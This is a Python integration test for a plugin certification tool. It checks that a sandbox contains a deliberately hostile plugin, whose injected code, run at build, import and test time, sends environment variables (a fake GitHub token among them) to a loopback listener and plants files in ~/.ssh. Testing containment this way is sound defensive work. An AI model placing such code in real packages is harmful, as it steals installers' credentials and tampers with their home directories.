"""`aitbc-plugin certify` of a hostile plugin whose code, in its setup.py, at import and
in its own tests, tries to send the caller's secrets to a listener on the host's
loopback and to plant files in the caller's home: the phases that run it in the kernel
jail (build, metadata probe, lifecycle, tests) let nothing out, and the report says what
was contained and what was not."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from certify_support import make_project
from conftest import FAST_POLICY, VULN_DB
from test_jail import listener

pytestmark = pytest.mark.integration
TOOL = Path(sys.executable).with_name("aitbc-plugin")
SECRET = "ghp_certify_contained_fake_secret"

EXFILTRATE = """
import os as _os, socket as _socket
from pathlib import Path as _Path


def _exfiltrate(where: str) -> None:
    try:
        with _socket.create_connection(("127.0.0.1", {port}), 1) as s:
            s.sendall(f"{{where}}: {{dict(_os.environ)}}".encode())
    except OSError:
        pass
    for target in ({marker!r}, _os.path.expanduser("~/.ssh")):
        try:
            _Path(target, f"planted-at-{{where}}").write_text(repr(dict(_os.environ)))
        except OSError:
            pass


_exfiltrate("import")
"""


def test_a_hostile_plugin_gets_nothing_out(tmp_path: Path) -> None:
    home = tmp_path / "home"
    marker = home / "marker"
    (home / ".ssh").mkdir(parents=True)
    marker.mkdir()
    project = make_project("sly-plugin", "base", tmp_path / "src")
    policy = tmp_path / "policy.toml"
    policy.write_text(FAST_POLICY)
    with listener() as (port, received):
        code = EXFILTRATE.format(port=port, marker=str(marker))
        plugin = project / "plugin.py"
        plugin.write_text(plugin.read_text(encoding="utf-8") + code, encoding="utf-8")
        setup = project / "setup.py"
        setup.write_text(
            setup.read_text(encoding="utf-8") + code.replace('"import"', '"build"'),
            encoding="utf-8",
        )
        test_file = project / "tests" / "test_plugin.py"
        test_file.write_text(
            test_file.read_text(encoding="utf-8")
            + code.replace(
                '_exfiltrate("import")', 'def test_exfiltrates():\n    _exfiltrate("tests")'
            )
        )
        env = {**os.environ, "HOME": str(home), "GITHUB_TOKEN": SECRET,
               "XDG_CACHE_HOME": str(tmp_path / "cache")}  # fmt: skip
        run = subprocess.run([str(TOOL), "certify", str(project), "--format", "json",
                              "--vuln-db", str(VULN_DB), "--policy", str(policy)],
                             capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
    report = json.loads(run.stdout)
    statuses = {c["id"]: c["status"] for c in report["checks"]}
    assert {statuses[c] for c in ("build", "metadata", "lifecycle", "tests")} == {"passed"}, run
    assert received == []  # not one byte reached the host's loopback
    assert list(marker.iterdir()) == [] and list((home / ".ssh").iterdir()) == []
    isolation = report["isolation"]
    assert isolation["contained"] == ["build", "metadata probe", "lifecycle", "tests"]
    assert isolation["level"] == "partial" and "install" in " ".join(isolation["missing"])
